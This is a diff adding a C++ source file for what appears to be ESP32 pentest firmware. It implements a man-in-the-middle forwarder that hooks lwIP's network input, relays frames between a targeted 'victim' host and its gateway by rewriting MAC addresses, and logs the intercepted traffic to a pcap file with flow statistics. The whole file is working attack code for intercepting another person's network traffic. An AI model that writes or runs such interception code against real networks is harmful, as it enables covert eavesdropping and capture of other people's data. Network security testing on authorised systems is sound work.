@@ -0,0 +1,193 @@
+#include "MitmForwarder.h"
+#include "lwip/ip4_addr.h"
+#include "lwip/netif.h"
+#include "lwip/pbuf.h"
+#include <sys/time.h>
+
+#define MITM_RING_PSRAM (256 * 1024)
+#define MITM_RING_RAM (32 * 1024)
+#define MITM_WRITE_BLOCK 4096
+#define MITM_FLUSH_MS 1000
+
+// netif->input has no user pointer, so the active instance is kept here. The original input
+// function stays set after end() for frames that were already on their way into the hook.
+static MitmForwarder *activeForwarder = nullptr;
+static netif_input_fn originalInput = nullptr;
+
+MitmForwarder::MitmForwarder() {}
+
+MitmForwarder::~MitmForwarder() {
+    end();
+    free(_ringStorage);
+}
+
+bool MitmForwarder::begin(File pcap) {
+    _pcap = pcap;
+    size_t size = psramFound() ? MITM_RING_PSRAM : MITM_RING_RAM;
+    if (!_ringStorage) _ringStorage = (uint8_t *)(psramFound() ? ps_malloc(size) : malloc(size));
+    if (!_ringStorage) return false;
+    _ring.begin(_ringStorage, size);
+    _flows.clear();
+    _stats = Stats();
+    _lastPoll = _lastFlush = millis();
+    _lastForwarded = _lastWritten = 0;
+
+    if (_pcap) {
+        uint8_t hdr[PCAP_FILE_HEADER_LEN];
+        PcapRing::fileHeader(hdr, PCAP_LINKTYPE_ETHERNET, 1514);
+        _pcap.write(hdr, sizeof(hdr));
+    }
+    return true;
+}
+
+bool MitmForwarder::startRelay(
+    struct netif *nif, const uint8_t myMAC[6], const uint8_t victimIP[4], const uint8_t victimMAC[6],
+    const uint8_t gatewayMAC[6]
+) {
+    if (!nif || !_ringStorage || activeForwarder) return false;
+    memcpy(_myMAC, myMAC, 6);
+    memcpy(_victimIP, victimIP, 4);
+    memcpy(_victimMAC, victimMAC, 6);
+    memcpy(_gatewayMAC, gatewayMAC, 6);
+
+    _netif = nif;
+    activeForwarder = this;
+    originalInput = nif->input;
+    nif->input = inputHook;
+    return true;
+}
+
+void MitmForwarder::stopRelay() {
+    if (_netif && activeForwarder == this) {
+        _netif->input = originalInput;
+        activeForwarder = nullptr;
+        vTaskDelay(pdMS_TO_TICKS(20)); // let a frame already inside the hook finish
+    }
+    _netif = nullptr;
+}
+
+void MitmForwarder::end() {
+    stopRelay();
+    if (_ringStorage) poll(true);
+}
+
+/*********************************************************************
+**  Capture
+**********************************************************************/
+static void captureTime(uint32_t &sec, uint32_t &usec) {
+    struct timeval tv;
+    gettimeofday(&tv, NULL);
+    sec = tv.tv_sec;
+    usec = tv.tv_usec;
+}
+
+void MitmForwarder::record(const uint8_t *frame, size_t len) {
+    if (!_ringStorage) return;
+    uint32_t sec, usec;
+    captureTime(sec, usec);
+    portENTER_CRITICAL(&_lock);
+    _ring.push(frame, len, sec, usec);
+    portEXIT_CRITICAL(&_lock);
+}
+
+void MitmForwarder::capture(struct pbuf *p) {
+    static uint8_t chained[1536]; // only touched from the input path
+    const uint8_t *frame = (const uint8_t *)p->payload;
+    size_t len = p->tot_len;
+    if (p->next) {
+        len = pbuf_copy_partial(p, chained, sizeof(chained), 0);
+        frame = chained;
+    }
+
+    FlowKey key;
+    bool isFlow = FlowTable::parse(frame, len, key);
+    uint32_t sec, usec;
+    captureTime(sec, usec);
+    uint32_t now = millis();
+
+    portENTER_CRITICAL(&_lock);
+    _ring.push(frame, len, sec, usec);
+    if (isFlow) _flows.update(key, len, now);
+    portEXIT_CRITICAL(&_lock);
+}
+
+void MitmForwarder::poll(bool flushAll) {
+    if (_pcap) {
+        // write whole blocks, or whatever is left once a second so the file doesn't lag far behind
+        bool due = flushAll || millis() - _lastFlush > MITM_FLUSH_MS;
+        while (_ring.used() >= MITM_WRITE_BLOCK || (due && _ring.used())) {
+            const uint8_t *data;
+            size_t n = _ring.peek(&data);
+            if (n > MITM_WRITE_BLOCK) n = MITM_WRITE_BLOCK;
+            size_t w = _pcap.write(data, n);
+            _ring.consume(n); // on a short write the data is lost anyway, don't stall the capture
+            _stats.written += w;
+            if (w < n) break;
+        }
+        if (due) {
+            _pcap.flush();
+            _lastFlush = millis();
+        }
+    }
+
+    uint32_t now = millis();
+    if (now - _lastPoll >= 1000) {
+        uint32_t fwd = _stats.forwarded;
+        _stats.fwdPps = (uint64_t)(fwd - _lastForwarded) * 1000 / (now - _lastPoll);
+        _stats.writeBps = (uint64_t)(_stats.written - _lastWritten) * 1000 / (now - _lastPoll);
+        _lastForwarded = fwd;
+        _lastWritten = _stats.written;
+        _lastPoll = now;
+    }
+}
+
+size_t MitmForwarder::topFlows(FlowEntry *out, size_t max, size_t *total) {
+    portENTER_CRITICAL(&_lock);
+    size_t n = _flows.top(out, max);
+    if (total) *total = _flows.size();
+    portEXIT_CRITICAL(&_lock);
+    return n;
+}
+
+/*********************************************************************
+**  Forwarding
+**********************************************************************/
+bool MitmForwarder::relay(struct pbuf *p) {
+    if (p->len < 34) return false;
+    uint8_t *eth = (uint8_t *)p->payload;
+    if (eth[12] != 0x08 || eth[13] != 0x00) return false; // IPv4 only
+    if (memcmp(eth, _myMAC, 6) != 0) return false;         // addressed to us at layer 2
+
+    const uint8_t *dstIP = eth + 14 + 16;
+    const uint8_t *nextHop;
+    if (memcmp(eth + 6, _victimMAC, 6) == 0) {
+        // victim -> anything that isn't us goes to the real gateway
+        if (memcmp(dstIP, netif_ip4_addr(_netif), 4) == 0) return false;
+        nextHop = _gatewayMAC;
+    } else if (memcmp(eth + 6, _gatewayMAC, 6) == 0 && memcmp(dstIP, _victimIP, 4) == 0) {
+        nextHop = _victimMAC;
+    } else {
+        return false;
+    }
+
+    capture(p);
+    memcpy(eth, nextHop, 6);
+    memcpy(eth + 6, _myMAC, 6);
+    if (_netif->linkoutput(_netif, p) != ERR_OK) {
+        _stats.failed++;
+        return true;
+    }
+    _stats.forwarded++;
+    _stats.fwdBytes += p->tot_len;
+    return true;
+}
+
+err_t MitmForwarder::inputHook(struct pbuf *p, struct netif *nif) {
+    MitmForwarder *self = activeForwarder;
+    if (self && nif == self->_netif && self->relay(p)) {
+        pbuf_free(p);
+        return ERR_OK;
+    }
+    // not ours to relay: hand over to the TCP/IP stack as usual
+    return originalInput(p, nif);
+}